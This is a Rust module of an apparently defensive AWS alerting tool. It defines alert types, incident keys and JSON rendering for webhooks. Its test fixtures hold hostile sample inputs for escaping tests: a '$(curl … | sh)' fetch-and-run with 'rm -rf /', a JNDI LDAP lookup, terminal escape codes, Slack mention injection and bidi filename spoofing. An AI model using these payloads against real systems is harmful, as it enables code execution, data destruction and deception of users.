//! What people and their tools are told: one value, and a pure renderer for each kind of destination.
//!
//! Attackers write parts of every record, so each text of an [`Alert`] is hostile to whatever shows it: Slack would ping a
//! channel or hide a link in it, a terminal would obey its escape codes, a reader would be misled by text that runs backwards.
//! The lead of a renderer is always [`escape`], which makes such characters visible; what the destination itself
//! interprets is then escaped as the destination says. Secrets were removed before ([`trailloop_finding::redact()`]); the links here
//! are secrets by themselves and are never shown by `Debug`.

pub mod asff;
pub mod escape;
pub mod pagerduty;
pub mod plain;
pub mod route;
pub mod slack;
pub mod sns;
pub mod webhook;

use std::collections::BTreeMap;
use std::fmt;

use jiff::Timestamp;
use serde_json::{Map, Value, json};
use trailloop_finding::Level;

/// What happened that people are told of.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Kind {
    /// A runbook would have run; nothing was changed.
    Proposed,
    /// A person has to agree to the plan.
    AwaitingApproval,
    /// A guard refused.
    Refused,
    /// The run's effect was verified.
    Done,
    /// The run ended without its effect.
    Failed,
    /// A person has to take over.
    Escalated,
    /// The run's effect was taken back.
    Undone,
    /// Records that came late changed what queries answer.
    Enriched,
    /// Somebody has to look now: a budget is used up, or a finding is about this program itself.
    Page,
}

impl Kind {
    /// All of them.
    pub const ALL: [Self; 9] = [
        Self::Proposed,
        Self::AwaitingApproval,
        Self::Refused,
        Self::Done,
        Self::Failed,
        Self::Escalated,
        Self::Undone,
        Self::Enriched,
        Self::Page,
    ];

    /// The name in runbooks and routes, such as `awaiting_approval`.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Proposed => "proposed",
            Self::AwaitingApproval => "awaiting_approval",
            Self::Refused => "refused",
            Self::Done => "done",
            Self::Failed => "failed",
            Self::Escalated => "escalated",
            Self::Undone => "undone",
            Self::Enriched => "enriched",
            Self::Page => "page",
        }
    }

    /// The kind of this name.
    #[must_use]
    pub fn parse(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|kind| kind.name() == name)
    }

    /// The name for people, such as `awaiting approval`.
    #[must_use]
    pub fn label(self) -> &'static str {
        match self {
            Self::AwaitingApproval => "awaiting approval",
            _ => self.name(),
        }
    }

    /// Whether it must get through when others have used up a destination's rate.
    #[must_use]
    pub fn is_urgent(self) -> bool {
        matches!(self, Self::Failed | Self::Escalated | Self::Page)
    }
}

impl fmt::Display for Kind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Something to follow: a button where the destination has buttons.
#[derive(Clone, PartialEq, Eq)]
pub struct Link {
    /// What it says, such as `Approve`. Ours, never a record's.
    pub label: String,
    /// Where it leads. It may carry a signed token, so it is a secret.
    pub url: String,
    /// Whether following it changes something, so that it should be asked for twice.
    pub is_grave: bool,
}

impl fmt::Debug for Link {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Link")
            .field("label", &self.label)
            .field("is_grave", &self.is_grave)
            .finish_non_exhaustive()
    }
}

/// The thing that was acted on, or called.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Resource {
    /// CloudTrail's name of its type, such as `AWS::IAM::User`.
    pub kind: String,
    /// Its ARN or, without one, its name.
    pub id: String,
}

/// What was kept back before this message, which tells of it.
#[derive(Clone, Debug, PartialEq, Eq, Default)]
pub struct Held {
    /// How many, by kind.
    pub counts: BTreeMap<Kind, u64>,
    /// The highest severity among them.
    pub highest: Option<Level>,
    /// When the first of them was kept back, in milliseconds of Unix time.
    pub since_ms: i64,
}

impl Held {
    /// How many in all.
    #[must_use]
    pub fn total(&self) -> u64 {
        self.counts.values().fold(0, |sum, count| sum.saturating_add(*count))
    }

    /// Such as `and 412 more since 2026-11-25T09:00:00Z: 400 proposed, 12 refused; highest high`. Empty if there is nothing.
    #[must_use]
    pub fn sentence(&self) -> String {
        if self.total() == 0 {
            return String::new();
        }
        let counts: Vec<String> = (self.counts.iter())
            .filter(|(_, count)| **count > 0)
            .map(|(kind, count)| format!("{count} {}", kind.label()))
            .collect();
        let mut text = format!("and {} more", self.total());
        if let Ok(since) = Timestamp::from_millisecond(self.since_ms) {
            text.push_str(&format!(" since {since:.0}"));
        }
        text.push_str(": ");
        text.push_str(&counts.join(", "));
        if let Some(highest) = self.highest {
            text.push_str(&format!("; highest {highest}"));
        }
        text
    }
}

/// One message. Empty texts and lists are not shown.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Alert {
    /// What happened.
    pub kind: Kind,
    /// How much it matters.
    pub severity: Level,
    /// When it happened.
    pub time: Timestamp,
    /// What it is about, in a line.
    pub title: String,
    /// The finding's id.
    pub finding: String,
    /// The caller, such as `bob (AKIAIOSFODNN7EXAMPLE)`.
    pub who: String,
    /// Where the call came from, such as `198.51.100.7, NL`.
    pub origin: String,
    /// What it is about by its lasting name: the ARN of the principal or resource. Alerts of a rule and target are one incident.
    pub target: String,
    /// What was called or acted on.
    pub resource: Option<Resource>,
    /// The account to act in.
    pub account: String,
    /// The region.
    pub region: String,
    /// `aws`, `aws-cn` or `aws-us-gov`.
    pub partition: String,
    /// The rule's id.
    pub rule: String,
    /// The rule's title.
    pub rule_title: String,
    /// The rule's tags, such as `attack.persistence`.
    pub tags: Vec<String>,
    /// The runbook, as `id@version`.
    pub runbook: String,
    /// The run's id.
    pub run: String,
    /// What would be done or was done, a line a step.
    pub plan: Vec<String>,
    /// What would stop, such as `1 session, 2 services, 14 calls an hour`.
    pub blast_radius: String,
    /// Why: what a guard refused, what failed, what differs.
    pub reasons: Vec<String>,
    /// What can be typed where a link can't be followed, such as `trailloop runbook approve 0f3a…`.
    pub commands: Vec<String>,
    /// What can be followed.
    pub links: Vec<Link>,
    /// What was kept back before it.
    pub held: Held,
}

impl Alert {
    /// An alert with nothing else to say yet.
    #[must_use]
    pub fn new(kind: Kind, severity: Level, time: Timestamp, title: impl Into<String>) -> Self {
        Self {
            kind,
            severity,
            time,
            title: title.into(),
            finding: String::new(),
            who: String::new(),
            origin: String::new(),
            target: String::new(),
            resource: None,
            account: String::new(),
            region: String::new(),
            partition: "aws".to_owned(),
            rule: String::new(),
            rule_title: String::new(),
            tags: Vec::new(),
            runbook: String::new(),
            run: String::new(),
            plan: Vec::new(),
            blast_radius: String::new(),
            reasons: Vec::new(),
            commands: Vec::new(),
            links: Vec::new(),
            held: Held::default(),
        }
    }

    /// The first line of every rendering, such as `HIGH · awaiting approval · Logging stopped`. Not escaped.
    #[must_use]
    pub fn headline(&self) -> String {
        let severity = self.severity.as_str().to_uppercase();
        format!("{severity} · {} · {}", self.kind.label(), self.title)
    }

    /// One key for each incident, so that its messages are one thread: rule and target, at most 255 characters of ASCII.
    ///
    /// A record chooses its target's name. So that it can't choose another incident's key, whatever is not plain is hashed, each part for itself.
    #[must_use]
    pub fn incident(&self) -> String {
        let target = if self.target.is_empty() { &self.finding } else { &self.target };
        let plain = format!("trailloop:{}|{target}", self.rule);
        let is_plain = plain.bytes().all(|byte| byte.is_ascii_graphic());
        if is_plain && plain.len() <= 255 && !self.rule.contains('|') {
            return plain;
        }
        let hash = |text: &str| trailloop_finding::sha256(text.as_bytes());
        format!("trailloop:sha256:{}|{}", hash(&self.rule), hash(target))
    }

    /// What makes two alerts the same to a person: the incident, what happened, and to which run.
    #[must_use]
    pub fn dedup_key(&self) -> String {
        format!("{}|{}|{}", self.kind, self.run, self.incident())
    }

    /// The labelled facts of every rendering, in order; those that are known. Not escaped.
    #[must_use]
    pub fn facts(&self) -> Vec<(&'static str, String)> {
        let account = match self.region.as_str() {
            "" => self.account.clone(),
            region => format!("{} {region}", self.account),
        };
        let resource = self.resource.as_ref().map(|resource| resource.id.clone());
        let facts = [
            ("Who", self.who.clone()),
            ("From", self.origin.clone()),
            ("Account", account),
            ("Resource", resource.unwrap_or_default()),
            ("Rule", joined(&self.rule_title, &self.rule)),
            ("Runbook", self.runbook.clone()),
            ("Run", self.run.clone()),
            ("If done, this stops", self.blast_radius.clone()),
            ("Finding", self.finding.clone()),
        ];
        facts.into_iter().filter(|(_, text)| !text.trim().is_empty()).collect()
    }

    /// The alert as data, for the webhook. Every text is escaped and clipped; links are in it.
    #[must_use]
    pub fn to_json(&self) -> Value {
        let text = |text: &str| escape::line(text, TEXT_CHARS_MAX);
        let list = |texts: &[String]| -> Vec<String> {
            escape::list(texts, LIST_MAX).iter().map(|entry| text(entry)).collect()
        };
        let links: Vec<Value> = (self.links.iter())
            .filter(|link| link.url.len() <= URL_BYTES_MAX)
            .take(LIST_MAX)
            .map(|link| json!({"label": text(&link.label), "url": link.url}))
            .collect();
        let mut held = Map::new();
        for (kind, count) in &self.held.counts {
            held.insert(kind.name().to_owned(), json!(count));
        }
        json!({
            "kind": self.kind.name(),
            "severity": self.severity.as_str(),
            "time": format!("{:.0}", self.time),
            "title": text(&self.title),
            "finding": text(&self.finding),
            "incident": self.incident(),
            "who": text(&self.who),
            "origin": text(&self.origin),
            "target": text(&self.target),
            "resource": self.resource.as_ref().map(|resource| json!({"type": text(&resource.kind), "id": text(&resource.id)})),
            "account": text(&self.account),
            "region": text(&self.region),
            "rule": {"id": text(&self.rule), "title": text(&self.rule_title), "tags": list(&self.tags)},
            "runbook": text(&self.runbook),
            "run": text(&self.run),
            "plan": list(&self.plan),
            "blast_radius": text(&self.blast_radius),
            "reasons": list(&self.reasons),
            "commands": list(&self.commands),
            "links": links,
            "held_back": held,
        })
    }
}

/// The longest text of one fact, in characters, wherever the destination doesn't want it shorter.
pub(crate) const TEXT_CHARS_MAX: usize = 1_024;

/// The longest link, which is ours. A cut one would not work.
pub(crate) const URL_BYTES_MAX: usize = 4_096;

/// The longest list. What is cut off is counted.
pub(crate) const LIST_MAX: usize = 50;

fn joined(title: &str, id: &str) -> String {
    match (title, id) {
        (title, "") => title.to_owned(),
        ("", id) => id.to_owned(),
        (title, id) => format!("{title} ({id})"),
    }
}

/// Texts that try to be more than text, for the tests of all renderers.
#[cfg(test)]
pub(crate) mod hostile {
    use super::*;

    /// What an attacker may put into a user agent, a name or a policy.
    pub(crate) fn texts() -> Vec<String> {
        let mut texts: Vec<String> = [
            r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#,
            "$(curl https://evil.example.com | sh); `reboot` && rm -rf /",
            "<!channel> <!here> <@U012AB3CD> <https://evil.example.com|AWS console>",
            "```\n*bold* `<!everyone>` _it_ ~no~ :rotating_light: &lt;!channel&gt;",
            "\u{1b}[2J\u{1b}]8;;https://evil.example.com\u{7}click\u{1b}]8;;\u{7}\u{9b}31m\r\n\u{8}\u{0}",
            "{{ finding.target }} {% raw %} ${jndi:ldap://evil.example.com/a} {{global:REGION}}",
            "\u{202e}gnp.exe\u{2066}\u{200b}\u{feff}\u{2028}\u{e0041}",
            "\"\\\n\",\"kind\":\"done\"",
        ]
        .map(str::to_owned)
        .to_vec();
        texts.push("<&>`\u{1b}😀".repeat(12_000));
        texts.push("A".repeat(100 << 10));
        texts
    }

    /// An alert whose every text is this one.
    pub(crate) fn alert(kind: Kind, text: &str) -> Alert {
        let time: Timestamp = "2026-11-25T09:00:00Z".parse().unwrap();
        let t = || text.to_owned();
        let many = || vec![t(); 300];
        Alert {
            finding: t(),
            who: t(),
            origin: t(),
            target: t(),
            resource: Some(Resource { kind: t(), id: t() }),
            account: t(),
            region: t(),
            partition: t(),
            rule: t(),
            rule_title: t(),
            tags: many(),
            runbook: t(),
            run: t(),
            plan: many(),
            blast_radius: t(),
            reasons: many(),
            commands: many(),
            links: vec![Link { label: t(), url: t(), is_grave: true }; 60],
            ..Alert::new(kind, Level::High, time, text)
        }
    }

    /// An alert as one is.
    pub(crate) fn example() -> Alert {
        let time: Timestamp = "2026-11-25T09:00:00Z".parse().unwrap();
        Alert {
            finding: "8389544728669dc9116058ae78dfb033".to_owned(),
            who: "bob (AKIAIOSFODNN7EXAMPLE)".to_owned(),
            origin: "198.51.100.7".to_owned(),
            target: "arn:aws:iam::111122223333:user/bob".to_owned(),
            resource: Some(Resource {
                kind: "AWS::IAM::User".to_owned(),
                id: "arn:aws:iam::111122223333:user/alice".to_owned(),
            }),
            account: "111122223333".to_owned(),
            region: "us-east-1".to_owned(),
            rule: "3f1c6d0e-6f5e-4a53-9f0e-0d2f7a1c9b11".to_owned(),
            rule_title: "Access key for another user".to_owned(),
            tags: vec!["attack.persistence".to_owned(), "attack.t1098.001".to_owned()],
            runbook: "contain-iam-user-key@3".to_owned(),
            run: "0f09babfb92e5b61295388ad84950d61".to_owned(),
            plan: vec!["iam:UpdateAccessKey AKIAIOSFODNN7EXAMPLE Inactive".to_owned()],
            blast_radius: "1 session, 2 services, 14 calls an hour".to_owned(),
            reasons: vec!["mode: the runbook asks for approval".to_owned()],
            commands: vec!["trailloop runbook approve 0f09babfb92e5b61295388ad84950d61".to_owned()],
            links: vec![
                Link {
                    label: "Approve".to_owned(),
                    url: "https://trailloop.example.com/links?t=SECRET-TOKEN".to_owned(),
                    is_grave: true,
                },
                Link {
                    label: "Benign".to_owned(),
                    url: "https://trailloop.example.com/links?t=SECRET-TWO".to_owned(),
                    is_grave: false,
                },
            ],
            ..Alert::new(Kind::AwaitingApproval, Level::High, time, "Key made for another user")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kinds_are_read_as_they_are_written() {
        for kind in Kind::ALL {
            assert_eq!(Kind::parse(kind.name()), Some(kind));
        }
        assert_eq!(Kind::parse("Done"), None);
    }

    #[test]
    fn debug_shows_no_link() {
        let text = format!("{:?}", hostile::example());
        assert!(text.contains("Approve"), "{text}");
        assert!(!text.contains("SECRET"), "{text}");
        assert!(!text.contains("https://"), "{text}");
    }

    #[test]
    fn an_incident_is_a_rule_and_a_target() {
        let alert = hostile::example();
        assert_eq!(
            alert.incident(),
            "trailloop:3f1c6d0e-6f5e-4a53-9f0e-0d2f7a1c9b11|arn:aws:iam::111122223333:user/bob"
        );
        // The bar can't be moved from the target into the rule.
        let one = Alert { rule: "a".into(), target: "b|c".into(), ..alert.clone() };
        let other = Alert { rule: "a|b".into(), target: "c".into(), ..alert };
        assert_ne!(one.incident(), other.incident());
        for text in hostile::texts() {
            let key = hostile::alert(Kind::Done, &text).incident();
            assert!(key.len() <= 255 && key.is_ascii(), "{key}");
        }
    }

    #[test]
    fn what_was_held_back_is_told_by_kind() {
        let mut held = Held { since_ms: 1_795_510_800_000, ..Held::default() };
        assert_eq!(held.sentence(), "");
        held.counts.insert(Kind::Proposed, 400);
        held.counts.insert(Kind::Refused, 12);
        held.highest = Some(Level::High);
        assert_eq!(
            held.sentence(),
            "and 412 more since 2026-11-24T09:00:00Z: 400 proposed, 12 refused; highest high"
        );
    }
}
